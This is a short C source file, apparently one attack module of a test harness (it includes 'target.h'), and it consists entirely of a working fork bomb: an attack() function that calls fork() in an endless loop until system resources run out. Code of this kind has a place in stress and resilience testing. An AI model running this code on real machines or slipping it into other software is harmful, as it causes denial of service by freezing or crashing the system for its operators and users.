/* forkbomb: every process forks forever. */
#include <unistd.h>

#include "target.h"

int attack(void)
{
    for (;;)
        (void)fork();
}
